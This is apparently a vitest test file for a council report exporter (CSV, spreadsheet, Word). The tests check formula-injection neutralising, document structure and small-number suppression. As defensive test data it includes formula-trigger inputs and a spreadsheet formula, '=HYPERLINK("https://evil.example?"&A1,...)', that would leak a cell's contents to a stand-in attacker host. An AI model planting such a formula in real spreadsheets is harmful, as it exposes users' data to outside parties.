import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { CFB, read, utils } from 'xlsx'
import { toCsv } from './csv.ts'
import { harmlessCell, printable } from './harmless-cell.ts'
import { REPORT } from './report-table.fixture.ts'
import { INSIDE_ONLY, keyFigures, protectionNotes } from './rules.ts'
import { toSpreadsheet } from './spreadsheet.ts'
import { toWordPaper } from './word-paper.ts'

describe('a cell of text', () => {
  test.each(['=1+1', '+44', '-1', '@SUM', '\t=1', '\r=1', '\0=1', '＝1', '＋1', '－1', '＠x', ' =1', '\ufeff=1'])(
    '%j gets a quote in front',
    (text) => expect(harmlessCell(text)).toBe(`'${text}`),
  )
  test.each(['', 'Larkmeadow', 'a=b', '14-16 Academy', "O'Neill", '’Quoted’'])('%j stays as it is', (text) =>
    expect(harmlessCell(text)).toBe(text),
  )
  test('loses what would break an XML file', () =>
    expect(printable('St\u0000 Ive\u001fs\ud800\n')).toBe('St Ives\ufffd\n'))
})

describe('the CSV file', () => {
  const csv = toCsv(REPORT)
  test('has a byte order mark, CRLF line ends and every text quoted', () => {
    expect(csv.startsWith('\ufeff"School","Not started","Confirmed","Completed","Total"\r\n')).toBe(true)
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(csv).toContain('"Larkmeadow “High” School",12,"c","c",40\r\n')
    expect(csv.endsWith('"Total",40,19,1061,1120\r\n')).toBe(true)
  })
  test('reads back as the table, with no cell that begins a formula', () => {
    const { data } = Papa.parse<string[]>(csv.slice(1).trimEnd(), { delimiter: ',' })
    expect(data).toHaveLength(5)
    expect(data[2]?.[0]).toBe(`'=HYPERLINK("https://evil.example?"&A1,"Open")`)
    expect(data[3]).toEqual([`'+44 Academy, "Staithe"`, '20', 'c', 'c', '30'])
    for (const cell of data.flat()) expect(cell).not.toMatch(/^[=+\-@]/)
  })
})

describe('the spreadsheet', () => {
  const book = read(toSpreadsheet(REPORT), { cellFormula: true, cellNF: true })
  const figures = book.Sheets[book.SheetNames[0] ?? ''] ?? {}
  test('has a sheet named after the report and one about it, none hidden', () => {
    expect(book.SheetNames).toEqual(['Work experience by school Year', 'About'])
    expect(book.Workbook?.Sheets?.every(({ Hidden }) => !Hidden)).toBe(true)
    expect(book.Props).toMatchObject({ Title: REPORT.title, Company: 'Fenland County Council' })
  })
  test('holds numbers as numbers and all else as text, never a formula', () => {
    expect(utils.sheet_to_json(figures, { header: 1 })).toEqual([
      ['School', 'Not started', 'Confirmed', 'Completed', 'Total'],
      ['Larkmeadow “High” School', 12, 'c', 'c', 40],
      ['=HYPERLINK("https://evil.example?"&A1,"Open")', 8, 9, 33, 50],
      ['+44 Academy, "Staithe"', 20, 'c', 'c', 30],
      ['Total', 40, 19, 1061, 1120],
    ])
    expect(figures.A3).toMatchObject({ t: 's' })
    expect(figures.B3).toMatchObject({ t: 'n', v: 8 })
    const cells = Object.entries(figures).flatMap(([at, cell]) => (at.startsWith('!') ? [] : [cell]))
    expect(cells).toHaveLength(25)
    for (const cell of cells) expect(cell).not.toHaveProperty('f')
  })
  test('says what it is', () => {
    const about = utils.sheet_to_json<string[]>(book.Sheets.About ?? {}, { header: 1 })
    expect(about.slice(0, 4)).toEqual([
      ['Title', REPORT.title],
      ['Academic year', '2026 to 2027'],
      ['Date', '14 June 2027'],
      ['What is counted', REPORT.subtitle],
    ])
    expect(about.map(([name]) => name)).toEqual(expect.arrayContaining(['Small numbers', 'Note', 'Source']))
  })
  test.each(['About', 'history', "'''", '[a]:b*?/\\', 'x'.repeat(40), `${'A'.repeat(30)}😀`])(
    'can be named %s',
    (title) => {
      const [first = ''] = read(toSpreadsheet({ ...REPORT, title })).SheetNames
      expect(first).toMatch(/^[^[\]:*?/\\']{1,31}$/)
      expect(first.toLowerCase()).not.toBe('about')
    },
  )
  test('is the same file each time', () => expect(toSpreadsheet(REPORT)).toEqual(toSpreadsheet(REPORT)))
})

describe('the Word paper', () => {
  /** The parts of the file as text: a .docx is a zip, and the workbook library can open any. */
  async function partsOf(report = REPORT) {
    const file = CFB.read(await toWordPaper(report), { type: 'array' })
    return (path: string) => new TextDecoder().decode(CFB.find(file, `/${path}`).content)
  }
  const textOf = (xml: string) => [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)</g)].map(([, text]) => text)

  test('has a title and headings in real styles', async () => {
    const xml = (await partsOf())('word/document.xml')
    const styled = (style: string) =>
      [...xml.matchAll(/<w:p>.*?<\/w:p>/g)].flatMap(([p]) =>
        p.includes(`<w:pStyle w:val="${style}"/>`) ? textOf(p) : [],
      )
    expect(styled('Title')).toEqual(['Work experience by school: Year 10'])
    expect(styled('Heading1')).toEqual(['Purpose', 'Key figures', 'The figures', 'Notes'])
  })
  test('says its purpose, its figures, how small numbers are protected and where it is from', async () => {
    const text = textOf((await partsOf())('word/document.xml')).join('\n')
    expect(text).toContain('To tell the committee where things stood on 14 June 2027')
    expect(text).toContain('1,120 students are counted')
    expect(text).toContain('c means confidential')
    expect(text).toContain('Source: Work experience, Children’s Services, Fenland County Council')
  })
  test('repeats its one header row, and holds the table as it was given', async () => {
    const xml = (await partsOf())('word/document.xml')
    const rows = [...xml.matchAll(/<w:tr>.*?<\/w:tr>/g)].map(([row]) => row)
    expect(rows).toHaveLength(5)
    expect(rows.map((row) => row.includes('<w:tblHeader/>'))).toEqual([true, false, false, false, false])
    expect(textOf(rows[0] ?? '')).toEqual(['School', 'Not started', 'Confirmed', 'Completed', 'Total'])
    expect(textOf(rows[1] ?? '')).toEqual(['Larkmeadow “High” School', '12', 'c', 'c', '40'])
    expect(textOf(rows[4] ?? '')).toEqual(['Total', '40', '19', '1061', '1120'])
  })
  test('is in British English, titled, with page numbers', async () => {
    const part = await partsOf()
    expect(part('word/styles.xml')).toMatch(/<w:lang [^>]*w:val="en-GB"/)
    expect(part('docProps/core.xml')).toContain('<dc:title>Work experience by school: Year 10</dc:title>')
    expect(part('word/footer1.xml')).toMatch(/PAGE.*NUMPAGES/)
  })
  test('lies on its side where there are many columns', async () => {
    const columns = Array.from({ length: 9 }, (_, n) => `Stage ${n + 1}`)
    expect((await partsOf({ ...REPORT, columns }))('word/document.xml')).toContain('w:orient="landscape"')
    expect((await partsOf())('word/document.xml')).not.toContain('w:orient="landscape"')
  })
})

describe('the key figures', () => {
  test('say the whole, then each column with its share', () =>
    expect(keyFigures(REPORT)).toEqual([
      '1,120 students are counted.',
      'Not started: 40 (3.6%)',
      'Confirmed: 19 (1.7%)',
      'Completed: 1,061 (94.7%)',
    ]))
  test('show no share that would give a small number away, and none of a hidden one', () => {
    const figures = keyFigures({ ...REPORT, totals: [118, 'c', 0], total: 120 })
    expect(figures.slice(1)).toEqual(['Not started: 118', 'Confirmed: not shown (c)', 'Completed: 0 (0%)'])
    expect(keyFigures({ ...REPORT, total: 'c' })[1]).toBe('Not started: 40')
  })
})

describe('the notes on small numbers', () => {
  test('say what c means, and nothing of how many are hidden or why each is', () =>
    expect(protectionNotes(REPORT).join(' ')).toMatch(/1 to 4 are not shown.*c means confidential/))
  test('do not claim protection where small numbers are shown', () => {
    const rows = REPORT.rows.map((row) => ({ ...row, counts: [3, 4, 33] }))
    expect(protectionNotes({ ...REPORT, rows })).toEqual([`${INSIDE_ONLY}.`])
    expect(protectionNotes({ ...REPORT, smallNumbers: 'shown' })).toEqual([`${INSIDE_ONLY}.`])
  })
})
